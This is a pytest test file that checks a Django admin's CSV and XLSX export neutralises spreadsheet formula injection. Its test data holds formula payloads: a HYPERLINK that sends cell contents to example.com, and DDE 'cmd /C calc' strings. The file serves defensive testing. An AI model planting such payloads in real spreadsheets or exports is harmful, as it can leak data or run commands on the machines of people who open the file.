"""The admin's export never hands a spreadsheet a formula: a text cell starting with one of a
formula's first characters comes back as text, in CSV and in XLSX."""

import io

import openpyxl
import pytest
import tablib
from django.urls import reverse

from events.models import Source
from staff.event_resources import SourceResource
from tests import factories as make

# Each title and the text it is exported as: a leading tab or carriage return is itself a
# place a cell (or line) starts, so the formula after it is kept text too.
HOSTILE_TITLES = [
    (
        '=HYPERLINK("http://example.com/?x="&A1,"Click")',
        '\'=HYPERLINK("http://example.com/?x="&A1,"Click")',
    ),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t'=1+1"),
    ("\r=1+1", "'\r'=1+1"),
]


def export(client, file_format: int) -> bytes:
    fields = {f"sourceresource_{name}": "on" for name in SourceResource().get_export_order()}
    response = client.post(
        reverse("admin:events_source_export"), {"format": file_format, "resource": 0, **fields}
    )
    assert response.status_code == 200, response.content[:500]
    return response.content


@pytest.mark.parametrize(("title", "text"), HOSTILE_TITLES, ids=["=", "+", "-", "@", "tab", "cr"])
def test_a_formula_cell_is_exported_as_text_in_csv(staff_client, title, text):
    make.source(title=title)
    rows = tablib.Dataset().load(export(staff_client, 0).decode("utf-8-sig"), format="csv")
    assert rows["title"] == [text]


@pytest.mark.parametrize(("title", "text"), HOSTILE_TITLES, ids=["=", "+", "-", "@", "tab", "cr"])
def test_a_formula_cell_is_exported_as_text_in_xlsx(staff_client, title, text):
    make.source(title=title)
    sheet = openpyxl.load_workbook(io.BytesIO(export(staff_client, 1))).active
    header = [cell.value for cell in sheet[1]]
    title_cell = sheet.cell(row=2, column=header.index("title") + 1)
    assert title_cell.data_type == "s"  # a string, not a formula ("f")
    # XML keeps no carriage return: "\r" comes back as a line break.
    assert title_cell.value == text.replace("\r", "\n")


def test_ordinary_values_are_exported_as_they_are(staff_client):
    make.source(title="Songchon factories open")
    rows = tablib.Dataset().load(export(staff_client, 0).decode("utf-8-sig"), format="csv")
    assert rows["title"] == ["Songchon factories open"]
    assert Source.objects.get().title == "Songchon factories open"
